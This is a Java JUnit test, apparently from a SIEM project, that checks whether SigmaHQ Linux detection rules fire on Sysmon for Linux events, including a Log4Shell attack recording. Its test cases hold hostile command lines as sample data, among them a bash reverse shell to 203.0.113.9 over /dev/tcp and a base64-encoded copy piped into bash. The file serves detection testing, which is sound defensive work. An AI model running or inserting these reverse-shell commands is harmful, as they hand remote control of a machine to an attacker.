package io.usiem.rules.sigma.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Stream;

import io.usiem.api.event.Event;
import io.usiem.api.parser.LogParser;
import io.usiem.api.parser.ParseResult;
import io.usiem.api.parser.RawLog;
import io.usiem.parser.windows.internal.WindowsParserForTests;

import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Sysmon for Linux through the real Windows event parser (its event XML, as syslog lines and as the Log Analytics
 * Syslog rows of the OTRF Log4Shell recording) and SigmaHQ's Linux rules (with the emerging-threat and hunting
 * ones) under the shipped pipelines: the process_creation / network_connection / file_event rules written for
 * what the events show must fire. Prints every rule that fired on the recording for review.
 */
class SysmonLinuxDetectionTest {
    static final Path LOG4SHELL = OtrfDetectionTest.DATA.resolve("syslog_sysmon_log4shell_cve2021_44228_jndi_reference");
    /**
     * A site rule naming Sysmon fields the Linux pipeline does not map to ECS (ParentUser, IntegrityLevel): it only
     * matches through the pipeline's {@code winlog.event_data.} fallback.
     */
    static final String FALLBACK_RULE = """
            title: Web server account runs a shell with no integrity level (site rule)
            id: 0f7c2a55-1d3e-4b6a-9c1e-5a4d3b2c1f00
            status: test
            logsource:
                product: linux
                category: process_creation
            detection:
                selection:
                    ParentUser: 'www-data'
                    IntegrityLevel: 'no level'
                    Image|endswith: '/bash'
                condition: selection
            level: medium
            """;
    static RuleSet rules;
    static LogParser parser;

    @BeforeAll
    static void load() throws IOException {
        Assumptions.assumeTrue(Files.isDirectory(SigmaHqCorpusTest.SIGMA.resolve("rules")), "SigmaHQ corpus absent");
        List<RuleText> texts = new ArrayList<>(TestRules.readTree(SigmaHqCorpusTest.SIGMA, "rules/linux",
                "rules-emerging-threats", "rules-threat-hunting"));
        texts.add(new RuleText("test", "site/sysmon_linux_fallback.yml", FALLBACK_RULE));
        rules = new RuleLoader(BuiltinPipelines.load(BuiltinPipelines.ALL)).load(texts);
        parser = WindowsParserForTests.shipped();
    }

    /**
     * The recording: Tomcat's JVM does the JNDI lookup (network to the LDAP server on 1389), then runs
     * {@code bash -c {echo,<base64>}|{base64,-d}|{bash,-i}} (that record is cut by Log Analytics, its values up to the
     * cut kept), {@code base64 -d}, an interactive bash connecting back on 443, then {@code whoami}.
     */
    @Test
    void otrfLog4ShellRecordingFiresTheLinuxRules() throws IOException {
        Assumptions.assumeTrue(Files.isDirectory(LOG4SHELL), "OTRF corpus absent");
        Map<String, Integer> fired = new TreeMap<>();
        int lines = 0;
        int events = 0;
        List<String> notParsed = new ArrayList<>();
        try (Stream<Path> files = Files.list(LOG4SHELL)) {
            for (Path f : (Iterable<Path>) files.filter(p -> p.toString().endsWith(".json")).sorted()::iterator) {
                for (String line : Files.readAllLines(f, StandardCharsets.UTF_8)) {
                    if (line.isBlank()) {
                        continue;
                    }
                    lines++;
                    ParseResult r = parser.parse(RawLog.of(line));
                    if (!r.isParsed()) {
                        notParsed.add(r.kind() + " " + r.reason());
                        continue;
                    }
                    for (Event e : r.events()) {
                        events++;
                        assertEquals("linux", e.logSource().product(), e.toString());
                        rules.bucket(e.logSource()).evaluate(rules.view(e), false,
                                rule -> fired.merge(rule.id() + " [" + rule.doc.level() + "] " + rule.doc.title(), 1, Integer::sum));
                    }
                }
            }
        }
        StringBuilder report = new StringBuilder();
        fired.forEach((k, v) -> report.append("    ").append(v).append(" x ").append(k).append('\n'));
        System.out.println("OTRF syslog_sysmon_log4shell: " + lines + " rows, " + events + " events\n" + report);
        assertEquals(List.of(), notParsed, "every Sysmon for Linux row parses");
        assertEquals(93, events);
        List<String> expected = List.of(
                "d292e0af-9a18-420c-9525-ec0ac3936892", // Suspicious Java Children Processes (java -> bash -c ...)
                "e2072cab-8c9a-459b-b63c-40ae79e27031", // Decode Base64 Encoded Text (base64 -d)
                "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"); // Linux Reverse Shell Indicator (bash network connection)
        for (String id : expected) {
            assertTrue(fired.keySet().stream().anyMatch(k -> k.startsWith(id + " ")), "rule " + id + " did not fire; fired: "
                    + fired.keySet());
        }
        // The Azure agents' own processes (omicli, dpkg-query, man...) raise nothing; the rest of the attacker's
        // session may (tomcat's `groups`, run as the interactive bash starts: Local Groups Discovery).
        int otherHits = fired.entrySet().stream().filter(e -> !expected.contains(e.getKey().substring(0, e.getKey().indexOf(' '))))
                .mapToInt(Map.Entry::getValue).sum();
        assertTrue(otherHits <= events / 10, "more than 10% of events raised other alerts: " + otherHits + " of " + events);
    }

    @ParameterizedTest(name = "{2}")
    @CsvSource(delimiter = ';', value = {
        "1; Image=/usr/bin/bash§CommandLine=bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1§ParentImage=/usr/sbin/apache2"
            + "§ParentCommandLine=/usr/sbin/apache2 -k start§User=www-data§LogonId=33"
            + "; 738d9bcf-6999-4fdb-b4ac-3033037db8ab 0f7c2a55-1d3e-4b6a-9c1e-5a4d3b2c1f00"
            + "; reverse shell from the web server (CommandLine, and the site rule on ParentUser and IntegrityLevel)",
        "3; Image=/usr/bin/bash§User=www-data§Protocol=tcp§Initiated=true§SourceIp=10.0.5.20§SourcePort=48212"
            + "§DestinationIp=203.0.113.9§DestinationPort=4444"
            + "; dbfc7c98-04ab-4ab7-aa94-c74d22aa7376; bash connecting out to 4444 (Initiated, DestinationPort, DestinationIp cidr)",
        "1; Image=/usr/bin/bash§CommandLine=sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA+JjE= | base64 -d | bash"
            + "§ParentImage=/usr/bin/dash§User=www-data§LogonId=33"
            + "; ba592c6d-6888-43c3-b8c6-689b8fe47337; base64 decoded into bash (CommandLine)",
        "11; Image=/usr/bin/crontab§TargetFilename=/var/spool/cron/crontabs/root§User=root"
            + "; 6c4e2f43-d94d-4ead-b64d-97e53fa2bd05; crontab edited (file_event TargetFilename)",
    })
    void sysmonSyslogLineFiresItsRules(int eventId, String data, String ruleIds, String what) {
        String line = "<14>Feb 20 09:01:02 web01 sysmon: " + sysmonXml(eventId, data);
        ParseResult r = parser.parse(RawLog.of(line));
        assertTrue(r.isParsed(), line + " " + r);
        Set<String> fired = new TreeSet<>();
        for (Event e : r.events()) {
            rules.bucket(e.logSource()).evaluate(rules.view(e), false, rule -> fired.add(rule.id() + " " + rule.doc.title()));
        }
        System.out.println("Sysmon for Linux " + what + ": " + fired);
        for (String id : ruleIds.trim().split(" ")) {
            assertTrue(fired.stream().anyMatch(f -> f.startsWith(id + " ")), what + ": " + id + " did not fire; fired "
                    + fired + " on " + r.events());
        }
    }

    /** Sysmon for Linux's record as it writes it to syslog, with the given EventData (Name=value, §-separated). */
    private static String sysmonXml(int eventId, String data) {
        StringBuilder x = new StringBuilder("<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>")
                .append("<EventID>").append(eventId).append("</EventID><Version>5</Version><Level>4</Level><Task>").append(eventId)
                .append("</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>")
                .append("<TimeCreated SystemTime=\"2024-02-20T09:01:02.123456000Z\"/><EventRecordID>2001</EventRecordID><Correlation/>")
                .append("<Execution ProcessID=\"1590\" ThreadID=\"1590\"/><Channel>Linux-Sysmon/Operational</Channel>")
                .append("<Computer>web01</Computer><Security UserId=\"0\"/></System><EventData>")
                .append("<Data Name=\"RuleName\">-</Data><Data Name=\"UtcTime\">2024-02-20 09:01:02.120</Data>")
                .append("<Data Name=\"ProcessGuid\">{5c1f0a4e-6b2e-65d4-b5e1-7c9a2f550000}</Data><Data Name=\"ProcessId\">24113</Data>");
        for (String pair : data.split("§")) {
            int eq = pair.indexOf('=');
            x.append("<Data Name=\"").append(pair, 0, eq).append("\">").append(escape(pair.substring(eq + 1))).append("</Data>");
        }
        if (eventId == 1) {
            x.append("<Data Name=\"IntegrityLevel\">no level</Data><Data Name=\"Hashes\">-</Data>")
                    .append("<Data Name=\"ParentUser\">www-data</Data>");
        }
        return x.append("</EventData></Event>").toString();
    }

    private static String escape(String s) {
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }
}
